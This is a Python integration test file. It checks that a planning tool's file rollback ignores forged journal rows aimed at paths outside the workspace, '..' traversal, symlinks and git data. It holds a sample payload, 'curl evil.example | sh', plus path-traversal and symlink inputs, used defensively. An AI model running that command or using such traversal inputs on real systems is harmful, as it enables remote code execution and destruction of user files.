"""``rollback --files`` does not trust the journal (issue 43, item 6): rows crafted into ``planmode_changes`` (root
``/``, a path outside the workspace, ``..`` out of it, a symlink at the path or in a folder on the way, git's data)
never make a rollback write or delete outside the run's own workspace, which is taken from the thread's settings.
Each such row is reported, and the run's real changes are still restored.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from langgraph.types import Command

from planmode.cli.files import restore_files, restored_note
from planmode.errors import PlanModeError
from planmode.graph.builder import build_graph
from planmode.persistence import sqlite_checkpointer
from planmode.persistence.changes import ChangeStore
from planmode.state.models import Step
from planmode.testing.scripted import PurposeScript, ScriptedChatModel
from planmode.tools import workspace_tools

pytestmark = pytest.mark.integration

PLAN = {
    "title": "Two steps",
    "steps": [
        {"id": "a", "description": "Create the notes", "tools": ["write_file"], "acceptance": "notes.md exists"},
        {
            "id": "b",
            "description": "Edit the notes",
            "dependencies": ["a"],
            "tools": ["edit_file", "write_file"],
            "acceptance": "notes.md exists",
        },
    ],
}
ATTACK = b"#!/bin/sh\ncurl evil.example | sh\n"


def executor(step: Step, ctx: Any) -> str:
    tools = {t.name: t for t in ctx.tools}
    if step.id == "a":
        tools["write_file"].invoke({"path": "notes.md", "content": "one\n"})
    else:
        tools["edit_file"].invoke({"path": "notes.md", "old_string": "one", "new_string": "two"})
        tools["write_file"].invoke({"path": "made.txt", "content": "made by b\n"})
    return f"did {step.id}"


def cfg(thread: str) -> Any:
    return {"configurable": {"thread_id": thread}}


def run(tmp_path: Path, ws: Path | None) -> tuple[Any, str]:
    db = tmp_path / "runs.sqlite"
    model = ScriptedChatModel(responder=PurposeScript(plan=PLAN))
    tools = workspace_tools(ws if ws is not None else tmp_path / "ws")
    graph = build_graph(model, executor=executor, tools=tools, checkpointer=sqlite_checkpointer(db))
    context = {"workspace": str(ws)} if ws is not None else {}
    graph.invoke({"messages": [("user", "Write and then edit the notes")]}, cfg("t"), context=context)
    payload = graph.get_state(cfg("t")).interrupts[0].value
    graph.invoke(Command(resume={"action": "approve", "revision": payload["revision"]}), cfg("t"), context=context)
    assert graph.get_state(cfg("t")).values["status"] == "completed"
    return graph, str(db)


def before_b(graph: Any) -> str:
    for state in graph.get_state_history(cfg("t")):
        plan = state.values.get("plan")
        steps = {s.id: s.status.value for s in plan.steps} if plan is not None else {}
        if steps.get("b") in ("pending", "running") and "execute_step" in state.next:
            return str(state.config["configurable"]["checkpoint_id"])
    raise AssertionError("no checkpoint before b")


def craft(db: str, root: str, path: Path | str, before: bytes | None, after: bytes | None) -> None:
    """A journal row as an attacker with the database would write it: after b's first change."""
    store = ChangeStore(db)
    real = store.changes("t", step_id="b")[0]
    store.record(
        thread_id="t", checkpoint_ns="", checkpoint_id=real.checkpoint_id, run_id=real.run_id, step_id="b",
        attempt=0, root=root, path=str(path), before=before, after=after,
    )  # fmt: skip


@pytest.fixture
def scene(tmp_path: Path) -> tuple[Any, str, Path, Path]:
    ws = tmp_path / "ws"
    (ws / ".git").mkdir(parents=True)
    (ws / ".git" / "config").write_bytes(b"[core]\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    graph, db = run(tmp_path, ws)
    return graph, db, ws, outside


def test_crafted_rows_never_write_or_delete_outside_the_workspace_and_the_rest_is_restored(
    scene: tuple[Any, str, Path, Path],
) -> None:
    graph, db, ws, outside = scene
    victims = {name: f"{name} of the user\n".encode() for name in ("v1", "v2", "v3", "v4", "v5", "v6")}
    for name, content in victims.items():
        (outside / name).write_bytes(content)
    (ws / "linkdir").symlink_to(outside)
    (ws / "evil").symlink_to(outside / "v5")
    craft(db, "/", outside / "v1", ATTACK, victims["v1"])  # root "/": overwrite a file outside
    craft(db, "/", outside / "v2", None, victims["v2"])  # "created by the run": delete a file outside
    craft(db, str(ws), f"{ws}/../outside/v3", ATTACK, victims["v3"])  # ".." out of the workspace
    craft(db, str(ws), ws / "linkdir" / "v4", ATTACK, victims["v4"])  # through a symlinked folder inside
    craft(db, str(ws), ws / "evil", ATTACK, victims["v5"])  # a symlink at the path
    craft(db, "/", "../outside/v6", None, victims["v6"])  # a relative path out of it
    craft(db, "/", ws / ".git" / "config", ATTACK, b"[core]\n")  # git's data
    craft(db, "/", ws / "sub" / ".." / ".planmode" / "planmode.sqlite", ATTACK, None)  # planmode's own data

    restored = restore_files(graph, db, "t", before_b(graph))

    for name, content in victims.items():
        assert (outside / name).read_bytes() == content, name
    assert sorted(p.name for p in outside.iterdir()) == sorted(victims)
    assert (ws / ".git" / "config").read_bytes() == b"[core]\n" and not (ws / ".planmode").exists()
    assert (ws / "notes.md").read_text() == "one\n" and not (ws / "made.txt").exists()  # b's real changes undone
    assert "notes.md" in restored and "made.txt (deleted: created after that point)" in restored
    left = [r for r in restored if "(left as it is: " in r]
    assert len(left) == 8, restored
    assert any(str(outside / "v1") in r and "outside the workspace" in r for r in left)
    assert any("linkdir is a symlink" in r for r in left) and any("evil is a symlink" in r for r in left)
    assert any(".git" in r and "git's own data" in r for r in left)
    note = restored_note(restored).plain
    assert "Restored workspace files: " in note and "left as they are" in note


def test_the_workspace_is_the_threads_not_the_rows(scene: tuple[Any, str, Path, Path], tmp_path: Path) -> None:
    """A row whose root is another folder, with a path inside that folder: outside the run's workspace."""
    graph, db, ws, outside = scene
    (outside / "config.py").write_bytes(b"SAFE = True\n")
    (outside / "thesis.tex").write_bytes(b"years of work\n")
    craft(db, str(outside), outside / "config.py", ATTACK, b"SAFE = True\n")
    craft(db, "/", outside / "thesis.tex", None, b"years of work\n")  # "created by the run": a deletion
    restored = restore_files(graph, db, "t", before_b(graph))
    assert (outside / "config.py").read_bytes() == b"SAFE = True\n"
    assert (outside / "thesis.tex").read_bytes() == b"years of work\n"
    assert any("config.py" in r and f"outside the workspace {ws}" in r for r in restored), restored


def test_a_thread_without_a_workspace_restores_nothing(tmp_path: Path) -> None:
    (tmp_path / "ws").mkdir()
    graph, db = run(tmp_path, None)
    with pytest.raises(PlanModeError, match="no workspace in its settings"):
        restore_files(graph, db, "t", before_b(graph))
    assert (tmp_path / "ws" / "notes.md").read_text() == "two\n"
